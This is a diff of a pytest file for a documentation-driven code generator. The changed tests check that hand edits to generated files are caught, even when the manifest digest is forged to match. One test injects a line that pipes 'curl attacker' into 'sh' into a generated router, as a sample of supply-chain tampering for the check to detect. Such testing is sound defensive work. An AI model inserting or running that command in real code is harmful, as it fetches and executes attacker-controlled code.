@@ -1,18 +1,18 @@
-"""A run with no cache (a fresh clone in CI) formats only what changed, by the output folder's manifest.
+"""A run with no cache (a fresh clone in CI) is sound and formats only what changed.
 
-The manifest records, for every generated file, the digest of its text before
-formatting and the formatter that made it; a file whose text and formatter are
-the recorded ones, and whose bytes on disk still have the recorded digest, is
-read instead of being formatted. Whatever does not agree (a file or a manifest
-edited by hand, a truncated manifest, another formatter) is formatted again:
-the result is always the one a run formatting everything gives.
+The output folder's manifest is never trusted: every file is compared with what
+the docs and templates make now. A file whose formatted text no cache holds is
+verified against its rendered text (same code and comments,
+:func:`docgen.fmt.same_code`) instead of being formatted; only files that fail
+that are formatted. A file edited by hand, even with its manifest line forged to
+match, is caught.
 """
 
 from __future__ import annotations
 
 import hashlib
+import re
 import shutil
-import sys
 from pathlib import Path
 
 import pytest
@@ -24,6 +24,7 @@ from docgen.output import MANIFEST
 ROOT = Path(__file__).resolve().parents[1]
 PACKAGE = "financials_api"
 PAGE = "specs/v1.0/api/customer-get.md"
+ROUTER = f"{PACKAGE}/v1_0/server/routers/customer.py"
 
 
 def tree(folder: Path) -> dict[str, bytes]:
@@ -48,13 +49,13 @@ class Black:
 
     def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
         self.texts: list[str] = []
-        original = docgen.fmt.format_python
+        original = docgen.fmt._black
 
         def counted(text: str) -> str:
             self.texts.append(text)
             return original(text)
 
-        monkeypatch.setattr(docgen.fmt, "format_python", counted)
+        monkeypatch.setattr(docgen.fmt, "_black", counted)
 
 
 def run(project: Path, monkeypatch: pytest.MonkeyPatch, *args: str) -> int:
@@ -71,13 +72,20 @@ def edit_page(project: Path) -> None:
     page.write_text(text.replace('description: "Retrieve the properties', 'description: "Fetch the properties', 1), encoding="utf-8")
 
 
+def forge(project: Path, path: str, code: bytes) -> None:
+    """Append ``code`` to a generated file and put its new digest in the manifest, as a pull request could."""
+    target = project / "generated" / path
+    target.write_bytes(target.read_bytes() + code)
+    manifest = project / "generated" / MANIFEST
+    sha = hashlib.sha256(target.read_bytes()).hexdigest()
+    text = re.sub(rf"^[0-9a-f]{{64}}(  {re.escape(path)})$", sha + r"\1", manifest.read_text(encoding="utf-8"), flags=re.M)
+    manifest.write_text(text, encoding="utf-8")
+
+
 def test_check_on_a_fresh_clone_formats_nothing(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     black = Black(monkeypatch)
-    modules_before = "black" in sys.modules
     assert run(clone, monkeypatch, "check") == 0
     assert black.texts == []
-    if not modules_before:
-        assert "black" not in sys.modules
     assert (clone / ".docgen-cache").is_dir()  # and the cache is warm for the next run
     assert run(clone, monkeypatch, "check") == 0
     assert black.texts == []
@@ -96,7 +104,7 @@ def test_a_one_page_edit_on_a_fresh_clone_formats_only_the_files_it_changes(
     python = [path for path in changed if path.endswith(".py")]
     assert len(black.texts) == len(python), changed  # each changed Python file once, nothing else
     assert any("Fetch the properties" in text for text in black.texts)
-    # the same bytes as a run that formats everything (no manifest, no cache)
+    # the same bytes as a run that formats everything (no output folder, no cache)
     scratch = tmp_path / "scratch"
     shutil.copytree(clone, scratch, ignore=shutil.ignore_patterns(".docgen-cache"))
     shutil.rmtree(scratch / "generated")
@@ -104,71 +112,82 @@ def test_a_one_page_edit_on_a_fresh_clone_formats_only_the_files_it_changes(
     assert tree(scratch / "generated") == after
 
 
-def test_a_hand_edited_file_on_a_fresh_clone_is_caught_and_restored(
-    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+@pytest.mark.parametrize("cache", ["none", "restored"])
+def test_a_forged_file_with_its_manifest_line_is_caught(
+    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], cache: str
 ) -> None:
-    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
-    original = target.read_bytes()
-    target.write_bytes(original.replace(b"class Customer", b"class Customer  ", 1))  # black would undo it
-    black = Black(monkeypatch)
-    assert run(clone, monkeypatch, "check") == 1
-    assert "changed: financials_api/v1_0/models/customer.py" in capsys.readouterr().err
-    assert len(black.texts) == 1  # the edited file only: its text is formatted again
+    expected = tree(clone / "generated")
+    if cache == "restored":  # the cache of a run on the unedited tree
+        assert run(clone, monkeypatch, "check") == 0
+    forge(clone, ROUTER, b'\nimport os\n\nos.system("curl attacker | sh")\n')
+    capsys.readouterr()
+    assert run(clone, monkeypatch, "check", *(["--no-cache"] if cache == "none" else [])) == 1
+    err = capsys.readouterr().err
+    assert f"changed: {ROUTER}" in err
     assert run(clone, monkeypatch, "generate") == 0
-    assert target.read_bytes() == original
+    assert tree(clone / "generated") == expected
 
 
-@pytest.mark.parametrize(
-    "damage",
-    ["truncated", "missing", "rendered digest edited", "file digest edited", "other formatter", "two formatters", "garbage"],
-)
-def test_a_damaged_manifest_costs_formatting_never_a_wrong_result(
-    clone: Path, monkeypatch: pytest.MonkeyPatch, damage: str
+@pytest.mark.parametrize("edit", [b"# a comment of the reviewer's\n", b'\n\nX = "smuggled"\n'])
+def test_a_comment_or_a_constant_added_by_hand_is_caught(clone: Path, monkeypatch: pytest.MonkeyPatch, edit: bytes) -> None:
+    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
+    target.write_bytes(target.read_bytes() + edit)
+    assert run(clone, monkeypatch, "check", "--no-cache") == 1
+    assert run(clone, monkeypatch, "check") == 1
+
+
+@pytest.mark.parametrize("cache", [False, True])
+def test_layout_alone_is_kept(
+    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], cache: bool
 ) -> None:
+    """A generated file laid out otherwise (same code, same comments) is not rewritten, with a
+    warm cache as without one: only its manifest line, which records its digest, is stale."""
+    if cache:
+        assert run(clone, monkeypatch, "generate") == 0
+    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
+    relaid = target.read_bytes().replace(b"class Customer(", b"class  Customer (", 1)
+    target.write_bytes(relaid)
+    flags = [] if cache else ["--no-cache"]
+    capsys.readouterr()
+    assert run(clone, monkeypatch, "check", *flags) == 1
+    err = capsys.readouterr().err
+    assert "changed: .docgen-manifest" in err and "models/customer.py" not in err
+    assert run(clone, monkeypatch, "generate", *flags) == 0
+    assert target.read_bytes() == relaid
+    assert run(clone, monkeypatch, "check", *flags) == 0
+
+
+@pytest.mark.parametrize("damage", ["truncated", "missing", "file digest edited", "other formatter", "garbage"])
+def test_a_damaged_manifest_gives_the_correct_result(clone: Path, monkeypatch: pytest.MonkeyPatch, damage: str) -> None:
     expected = tree(clone / "generated")
     manifest = clone / "generated" / MANIFEST
     text = manifest.read_text(encoding="utf-8")
     lines = text.splitlines(keepends=True)
-    rendered = [i for i, line in enumerate(lines) if line.startswith("#") and "  " in line]
-    files = [i for i, line in enumerate(lines) if not line.startswith("#")]
     if damage == "truncated":
         manifest.write_bytes(text.encode("utf-8")[: len(text) * 2 // 3])
     elif damage == "missing":
         manifest.unlink()
-    elif damage == "rendered digest edited":
-        lines[rendered[0]] = "#" + "0" * 64 + lines[rendered[0]][65:]
-        manifest.write_text("".join(lines), encoding="utf-8")
     elif damage == "file digest edited":
-        lines[files[0]] = "f" * 64 + lines[files[0]][64:]
+        lines[0] = "f" * 64 + lines[0][64:]
         manifest.write_text("".join(lines), encoding="utf-8")
     elif damage == "other formatter":
-        manifest.write_text(text.replace("# formatted from the texts below by black ", "# formatted from the texts below by black 0"), encoding="utf-8")
-    elif damage == "two formatters":
-        manifest.write_text(text + "# formatted from the texts below by black 0.1\n", encoding="utf-8")
+        manifest.write_text(text.replace("# formatted by black ", "# formatted by black 0"), encoding="utf-8")
     else:
         manifest.write_bytes(b"\x00\xff<<<<<<< HEAD\n" + text.encode("utf-8")[::-1])
     black = Black(monkeypatch)
     assert run(clone, monkeypatch, "check", "--no-cache") == 1  # the manifest is not the one generate writes
-    assert black.texts  # what the manifest no longer vouches for is formatted again
-    if damage in ("other formatter", "two formatters", "missing", "garbage"):
-        assert len(black.texts) == len([path for path in expected if path.endswith(".py")])
-    assert run(clone, monkeypatch, "generate", "--no-cache") == 0
-    assert tree(clone / "generated") == expected
-    assert run(clone, monkeypatch, "check", "--no-cache") == 0
+    assert black.texts == []  # the files are verified, not formatted
+    if damage != "missing":
+        assert run(clone, monkeypatch, "generate", "--no-cache") == 0
+        assert tree(clone / "generated") == expected
+        assert run(clone, monkeypatch, "check", "--no-cache") == 0
 
 
-def test_the_manifest_records_each_files_text_before_formatting(clone: Path) -> None:
-    from docgen.config import Config
-    from docgen.pipeline import build, load_pages
-    from docgen.render import render_unformatted
-
-    config = Config(specs=clone / "specs", out=clone / "generated", package=PACKAGE)
-    texts = render_unformatted(build(load_pages(config.specs, config)), config)
+def test_the_manifest_names_the_formatter(clone: Path) -> None:
     lines = (clone / "generated" / MANIFEST).read_text(encoding="utf-8").splitlines()
-    recorded = dict(reversed(line[1:].split("  ", 1)) for line in lines if line.startswith("#") and "  " in line)
-    assert recorded == {path: hashlib.sha256(text.encode("utf-8")).hexdigest() for path, text in texts.items()}
-    assert f"# formatted from the texts below by {docgen.fmt.formatter()}" in lines
-    assert docgen.fmt.formatter().startswith("black 26.")
+    assert lines[-1] == f"# formatted by {docgen.fmt.Formatter().name}"
+    assert lines[-1].startswith("# formatted by black 26.")
+    assert all(re.fullmatch(r"[0-9a-f]{64}  \S.*", line) for line in lines[:-1])
 
 
 def test_output_is_the_same_with_and_without_a_cache(clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
